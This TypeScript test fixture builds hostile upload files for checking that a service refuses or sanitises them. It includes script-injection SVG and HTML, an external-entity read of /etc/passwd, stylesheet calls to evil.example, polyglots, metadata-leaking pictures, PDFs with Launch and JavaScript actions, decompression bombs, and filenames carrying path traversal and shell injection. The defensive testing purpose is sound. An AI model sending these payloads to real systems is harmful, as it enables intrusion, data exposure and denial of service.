import { deflateSync, gzipSync } from "node:zlib";
import sharp from "sharp";
import { type FileKind, fileOf } from "./files.ts";
import { tellingPdf } from "./telling-documents.ts";
import { tellingMov, tellingMp4, tellingOgg, tellingWebm } from "./telling-films.ts";
import { tellingJpeg } from "./telling-pictures.ts";

/*
 * Files that people send who mean harm, or that tell more than their senders know. Whatever each of them is, it is refused or
 * it lies there and does nothing; of a picture nothing but the pixels is left.
 */
export type Hostile = { name: string; filename: string; bytes: Buffer };

/** `npm run test:heavy` sends all of them; else each kind of trick is sent in a few of its forms. */
const isFull = Boolean(process.env["HEAVY"]);

/** Stands wherever a file can hide something: as the place where it was taken, as a script, as a name. */
export const secret = "MARKER-48.8584N-2.2945E";
const script = `<script>alert("${secret}")</script>`;

const bytesOf = (...parts: (Uint8Array | string)[]): Buffer =>
  Buffer.concat(parts.map((part) => (typeof part === "string" ? Buffer.from(part, "latin1") : part)));
const big = (value: number, length = 4): Buffer => {
  const bytes = Buffer.alloc(length);
  bytes.writeUIntBE(value, 0, length);
  return bytes;
};

const crcTable = Uint32Array.from({ length: 256 }, (_, byte) => {
  let value = byte;
  for (let bit = 0; bit < 8; bit++) value = value & 1 ? (value >>> 1) ^ 0xedb88320 : value >>> 1;
  return value >>> 0;
});
function crc32(bytes: Buffer): number {
  let sum = 0xffffffff;
  for (const byte of bytes) sum = crcTable[(sum ^ byte) & 0xff]! ^ (sum >>> 8);
  return (sum ^ 0xffffffff) >>> 0;
}
function pngChunk(type: string, body: Uint8Array | string): Buffer {
  const named = bytesOf(type, body);
  return bytesOf(big(named.length - 4), named, big(crc32(named)));
}

const canvas = () => sharp({ create: { width: 24, height: 24, channels: 3, background: "#2f6f5f" } });
const pictures = {
  jpg: await canvas().jpeg().toBuffer(),
  png: await canvas().png().toBuffer(),
  gif: await canvas().gif().toBuffer(),
  webp: await canvas().webp().toBuffer(),
};
type Format = keyof typeof pictures;
const formats = Object.keys(pictures) as Format[];

/** Pages and scripts, which browsers would run. */
const pages: Record<string, string> = {
  svg: `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`,
  "svg-xml": `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;${script}</svg>`,
  "svg-use": `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">${script}</body></foreignObject></svg>`,
  html: `<!doctype html>${script}`,
  "html-bom": `\u00ef\u00bb\u00bf<html>${script}`,
  "html-late": `${" ".repeat(600)}<html><body>${script}`,
  xhtml: `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`,
  js: `alert("${secret}")//`,
  css: `@import "//evil.example/${secret}";`,
  xslt: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#"?><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform">${script}</xsl:stylesheet>`,
  mhtml: `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n${script}`,
  hta: `<HTA:APPLICATION>${script}`,
  m3u8: `#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\nfile:///etc/passwd\n#EXT-X-ENDLIST`,
  ps: `%!PS\n(/etc/passwd) (r) file`,
  mvg: `push graphic-context\nfill 'url(https://evil.example/${secret}")'\npop graphic-context`,
};

/** What an ending or a declared type claims. */
const endings = ["png", "jpg", "gif", "pdf"];
if (isFull) endings.push("webp", "avif", "heic", "svg", "html", "xml", "txt", "mp4", "webm", "mp3", "zip", "docx");

function disguised(): Hostile[] {
  return Object.entries(pages).flatMap(([kind, text]) =>
    endings.map((ending) => ({
      name: `${kind} called ${ending}`,
      filename: `${kind}.${ending}`,
      bytes: Buffer.from(text, "latin1"),
    })),
  );
}

/** The beginnings by which programs know a kind of file. */
const magics: Record<string, Uint8Array | string> = {
  png: Buffer.from("\x89PNG\r\n\x1a\n", "latin1"),
  jpg: Buffer.from([0xff, 0xd8, 0xff, 0xe0]),
  gif: "GIF89a",
  webp: bytesOf("RIFF", big(200), "WEBPVP8 "),
  pdf: "%PDF-1.7\n",
  zip: Buffer.from([0x50, 0x4b, 3, 4]),
  mp4: bytesOf(big(24), "ftypisom", big(512), "isomiso2"),
  html: `<html>${script}`,
};

/** Each kind with each other behind it, so that two programs see two things. */
function polyglots(): Hostile[] {
  const kinds = Object.keys(magics);
  return kinds.flatMap((one) =>
    kinds
      .filter((other) => other !== one)
      .map((other) => ({
        name: `${one} that is ${other} too`,
        filename: `both.${other}`,
        bytes: bytesOf(magics[one]!, "/*", magics[other]!, script, "*/"),
      })),
  );
}

/** Real pictures with something else behind them, or as a comment within. */
function inhabited(): Hostile[] {
  const guests = {
    html: script,
    zip: bytesOf(Buffer.from([0x50, 0x4b, 3, 4]), secret),
    js: `*/alert("${secret}")`,
    ...(isFull && pages),
  };
  return formats.flatMap((format) =>
    Object.entries(guests).map(([guest, bytes]) => ({
      name: `${format} with ${guest} behind its end`,
      filename: `guest.${format}`,
      bytes: bytesOf(pictures[format], bytes),
    })),
  );
}

const exif = {
  IFD0: { Artist: secret, Copyright: secret, ImageDescription: secret, Make: secret, Software: secret },
  IFD3: { GPSLatitudeRef: "N", GPSLatitude: "48/1 51/1 30/1", GPSLongitudeRef: "E", GPSLongitude: "2/1 17/1 40/1" },
};
const xmp = `<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="${secret}"/></rdf:RDF></x:xmpmeta>`;

function segment(marker: number, body: Uint8Array | string): Buffer {
  const content = bytesOf(body);
  return bytesOf(Buffer.from([0xff, marker]), big(content.length + 2, 2), content);
}

/** Pictures that say who took them, where and with what. */
async function telling(): Promise<Hostile[]> {
  const made: [string, Format | "tiff" | "heic", Buffer][] = [];
  for (const format of ["jpg", "png", "webp"] as const) {
    const as = format === "jpg" ? "jpeg" : format;
    made.push([`${format} with EXIF and GPS`, format, await canvas().withExif(exif).toFormat(as).toBuffer()]);
    made.push([`${format} with XMP`, format, await canvas().withXmp(xmp).toFormat(as).toBuffer()]);
    made.push([
      `${format} with a profile`,
      format,
      await canvas().withIccProfile("p3").withExif(exif).toFormat(as).toBuffer(),
    ]);
  }
  const { jpg, png, gif, webp } = pictures;
  const iptc = bytesOf(
    "Photoshop 3.0\0",
    "8BIM",
    big(0x0404, 2),
    big(0, 2),
    big(secret.length + 5),
    Buffer.from([0x1c, 2, 90]),
    big(secret.length, 2),
    secret,
  );
  const inJpeg = (...parts: Buffer[]) => bytesOf(jpg.subarray(0, 2), ...parts, jpg.subarray(2));
  made.push(["jpg with IPTC", "jpg", inJpeg(segment(0xed, iptc))]);
  made.push(["jpg with a comment", "jpg", inJpeg(segment(0xfe, secret))]);
  made.push([
    "jpg with two APP1",
    "jpg",
    inJpeg(segment(0xe1, `Exif\0\0${secret}`), segment(0xe1, `http://ns.adobe.com/xap/1.0/\0${xmp}`)),
  ]);
  made.push(["jpg with a maker's segment", "jpg", inJpeg(segment(0xe5, secret))]);
  made.push(["jpg with a second picture", "jpg", bytesOf(jpg, inJpeg(segment(0xfe, secret)))]);
  made.push(["jpg that tells in many places", "jpg", Buffer.from(await tellingJpeg())]);
  const inPng = (...parts: Buffer[]) => bytesOf(png.subarray(0, 33), ...parts, png.subarray(33));
  made.push(["png with tEXt", "png", inPng(pngChunk("tEXt", `Comment\0${secret}`))]);
  made.push(["png with zTXt", "png", inPng(pngChunk("zTXt", bytesOf("Comment\0\0", deflateSync(secret))))]);
  made.push(["png with iTXt", "png", inPng(pngChunk("iTXt", `XML:com.adobe.xmp\0\0\0\0\0${xmp}`))]);
  made.push(["png with eXIf", "png", inPng(pngChunk("eXIf", `MM\0*\0\0\0\x08${secret}`))]);
  made.push(["png with a chunk of its own", "png", inPng(pngChunk("prVt", secret))]);
  made.push(["png with data behind IEND", "png", bytesOf(png, secret.repeat(100))]);
  made.push(["jpg with data behind EOI", "jpg", bytesOf(jpg, secret.repeat(100))]);
  made.push([
    "gif with a comment",
    "gif",
    bytesOf(gif.subarray(0, gif.length - 1), Buffer.from([0x21, 0xfe, secret.length]), secret, Buffer.from([0, 0x3b])),
  ]);
  made.push(["gif with data behind its trailer", "gif", bytesOf(gif, secret)]);
  made.push([
    "webp with a chunk of its own",
    "webp",
    bytesOf(webp, "JUNK", Buffer.from([secret.length, 0, 0, 0]), secret),
  ]);
  made.push(["tiff called jpg", "tiff", await canvas().withExif(exif).tiff().toBuffer()]);
  made.push(["heic", "heic", bytesOf(big(24), "ftypheic", big(0), "mif1heic", big(100), "meta", secret)]);
  return made.map(([name, format, bytes]) => ({
    name,
    filename: `${secret}.${format === "tiff" ? "jpg" : format}`,
    bytes,
  }));
}

async function recordings(): Promise<Hostile[]> {
  const made = [
    ["a film with its place", "mp4", await tellingMp4()],
    ["a film of a phone", "mov", await tellingMov()],
    ["a WebM with tags", "webm", await tellingWebm()],
    ["an Ogg with tags", "ogg", await tellingOgg()],
    ["a document with its author", "pdf", await tellingPdf()],
  ] as const;
  const inPdf = (text: string) => bytesOf("%PDF-1.7\n", text, "\ntrailer<</Root 1 0 R>>\n%%EOF");
  const acts = ["JavaScript", "Launch", "URI", "SubmitForm", "GoToR", "EmbeddedFile"].map((act) => ({
    name: `a document with /${act}`,
    filename: `${act}.pdf`,
    bytes: inPdf(
      `1 0 obj<</Type/Catalog/OpenAction<</S/${act}/JS(app.alert\\(1\\))/F(cmd.exe)/URI(javascript:1)>>>>endobj`,
    ),
  }));
  return [
    ...made.map(([name, ending, bytes]) => ({ name, filename: `telling.${ending}`, bytes: Buffer.from(bytes) })),
    ...acts,
  ];
}

/** Little that unpacks to very much. */
function bombs(): Hostile[] {
  const header = (width: number, height: number, colour = 2) =>
    pngChunk("IHDR", bytesOf(big(width), big(height), Buffer.from([8, colour, 0, 0, 0])));
  const png = (width: number, height: number, data: Buffer) =>
    bytesOf("\x89PNG\r\n\x1a\n", header(width, height), pngChunk("IDAT", data), pngChunk("IEND", ""));
  const zeros = deflateSync(Buffer.alloc(30_000_000));
  const gzip = gzipSync(Buffer.alloc(20_000_000));
  return [
    {
      name: "a png of 50,000 × 50,000 by its header",
      filename: "big.png",
      bytes: png(50_000, 50_000, Buffer.alloc(0)),
    },
    { name: "a png of 50,000 × 50,000 with data", filename: "bomb.png", bytes: png(50_000, 50_000, zeros) },
    { name: "a png of 2^31 pixels in a row", filename: "row.png", bytes: png(0x7fffffff, 1, zeros) },
    { name: "a png of no size", filename: "none.png", bytes: png(0, 0, zeros) },
    { name: "a png that unpacks to more than it says", filename: "more.png", bytes: png(10, 10, zeros) },
    {
      name: "a jpg of 65,535 × 65,535",
      filename: "big.jpg",
      bytes: bytesOf(
        Buffer.from([0xff, 0xd8]),
        segment(
          0xc0,
          bytesOf(Buffer.from([8, 0xff, 0xff, 0xff, 0xff, 3]), Buffer.from([1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1])),
        ),
      ),
    },
    {
      name: "a gif of 65,535 × 65,535",
      filename: "big.gif",
      bytes: bytesOf(
        "GIF89a",
        Buffer.from([0xff, 0xff, 0xff, 0xff, 0xf7, 0, 0]),
        Buffer.alloc(768),
        ",",
        Buffer.alloc(4),
        Buffer.from([0xff, 0xff, 0xff, 0xff, 0, 8, 1, 0, 0, 0x3b]),
      ),
    },
    { name: "a gzip bomb", filename: "bomb.gz", bytes: gzip },
    { name: "a gzip bomb called svgz", filename: "bomb.svgz", bytes: gzip },
    { name: "a gzip in a gzip called png", filename: "bomb.png", bytes: gzipSync(gzip) },
    {
      name: "a zip bomb",
      filename: "bomb.zip",
      bytes: bytesOf(
        Buffer.from([0x50, 0x4b, 3, 4, 20, 0, 0, 0, 8, 0]),
        Buffer.alloc(8),
        big(zeros.length),
        Buffer.from([0xff, 0xff, 0xff, 0xff, 1, 0, 0, 0]),
        "x",
        zeros,
      ),
    },
    {
      name: "a zip called docx",
      filename: "report.docx",
      bytes: bytesOf(Buffer.from([0x50, 0x4b, 3, 4, 20, 0, 0, 0, 8, 0]), zeros.subarray(0, 1000)),
    },
  ];
}

const names = [
  "../../../etc/passwd",
  "..\\..\\windows\\system32\\cmd.exe",
  "/etc/shadow",
  "C:\\boot.ini",
  "....//....//x.png",
  "%2e%2e%2f%2e%2e%2fx.png",
  ".htaccess",
  ".",
  "..",
  "CON.txt",
  "a\u202egpj.exe",
  "\u2066evil\u2069.pdf",
  "a\u200b.png.exe",
  "tab\there.pdf",
  'quote".pdf',
  "semi;filename=x.html.pdf",
  "new\u0085line.pdf",
  "\u2028.html",
  "x".repeat(250),
  "пример.html.pdf",
  "<img src=x onerror=alert(1)>.pdf",
  "file.pdf\r\nX-Injected: yes",
  "$(touch x).pdf",
  "|calc.pdf",
];

const namedKinds: FileKind[] = ["pdf", ...(isFull ? (["mp4", "zip", "mp3"] as const) : [])];

function named(): Hostile[] {
  return names.flatMap((filename) =>
    namedKinds.map((kind) => ({
      name: `a ${kind} with a name like ${JSON.stringify(filename)}`,
      filename,
      bytes: Buffer.from(fileOf(kind, 200)),
    })),
  );
}

export async function hostileFiles(): Promise<Hostile[]> {
  return [
    ...disguised(),
    ...polyglots(),
    ...inhabited(),
    ...(await telling()),
    ...(await recordings()),
    ...bombs(),
    ...named(),
  ];
}
